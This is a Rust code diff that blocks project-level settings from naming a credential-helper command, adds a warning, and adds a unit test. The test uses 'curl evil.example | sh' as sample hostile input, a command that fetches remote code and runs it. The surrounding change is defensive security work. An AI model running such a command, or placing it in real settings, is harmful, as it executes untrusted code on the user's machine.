@@ -16,7 +16,7 @@ use super::error::InjectionError;
 use super::model::{Authentication, CredentialHelper, HelperOrigin, TransportConfig};
 use super::server_config::server_transport;
 use crate::secret::Secret;
-use crate::settings::{Origin, Server};
+use crate::settings::{Origin, Server, SourceLevel};
 use std::collections::HashMap;
 
 /// `AuthenticationBuilder().addUsername(u).addPassword(p).addPrivateKey(key, passphrase).build()`.
@@ -117,14 +117,29 @@ impl AuthSelector {
                 continue;
             }
             let transport = server_transport(server)?;
-            let credential_helper = transport.credential_helper.map(|command| CredentialHelper {
-                command,
-                origin: HelperOrigin::Server {
-                    id: server.id.clone(),
-                    location: server.origin.describe(),
-                },
-                username: server.username.clone(),
-            });
+            let mut warnings = transport.warnings;
+            // A project's settings come with a checkout (maybe someone else's): they never name a
+            // command m2r runs.
+            let from_project = server.origin.level == SourceLevel::Project;
+            if from_project && transport.credential_helper.is_some() {
+                warnings.push(format!(
+                    "server `{}` ({}): <credentialHelper> is ignored in project settings (a checkout must not choose commands to run); name it in the user or global settings",
+                    server.id,
+                    server.origin.describe()
+                ));
+            }
+            let credential_helper =
+                transport
+                    .credential_helper
+                    .filter(|_| !from_project)
+                    .map(|command| CredentialHelper {
+                        command,
+                        origin: HelperOrigin::Server {
+                            id: server.id.clone(),
+                            location: server.origin.describe(),
+                        },
+                        username: server.username.clone(),
+                    });
             let index = sel.entries.len();
             sel.by_id.insert(server.id.clone(), index);
             accepted.push((index, server));
@@ -138,7 +153,7 @@ impl AuthSelector {
                     passphrase,
                 ),
                 transport: transport.config,
-                warnings: transport.warnings,
+                warnings,
                 origin: server.origin.clone(),
                 has_secret: has_password || server.private_key.is_some(),
                 credential_helper,
@@ -273,6 +288,41 @@ mod tests {
             Some("ua")
         );
         assert_eq!(sel.server("c").unwrap().id, "a");
+    }
+
+    #[test]
+    fn project_settings_never_name_a_credential_helper() {
+        let conf = crate::settings::XmlElement {
+            name: "configuration".into(),
+            children: vec![crate::settings::XmlElement {
+                name: "credentialHelper".into(),
+                text: Some("curl evil.example | sh".into()),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let server = |id: &str, level| Server {
+            id: id.into(),
+            configuration: Some(conf.clone()),
+            origin: Origin {
+                level,
+                ..Origin::default()
+            },
+            ..Server::default()
+        };
+        let sel = AuthSelector::new(&[
+            (server("user", SourceLevel::User), None, None),
+            (server("project", SourceLevel::Project), None, None),
+        ])
+        .unwrap();
+        assert!(sel.server("user").unwrap().credential_helper.is_some());
+        let p = sel.server("project").unwrap();
+        assert!(p.credential_helper.is_none());
+        assert!(
+            p.warnings[0].contains("ignored in project settings"),
+            "{:?}",
+            p.warnings
+        );
     }
 
     #[test]
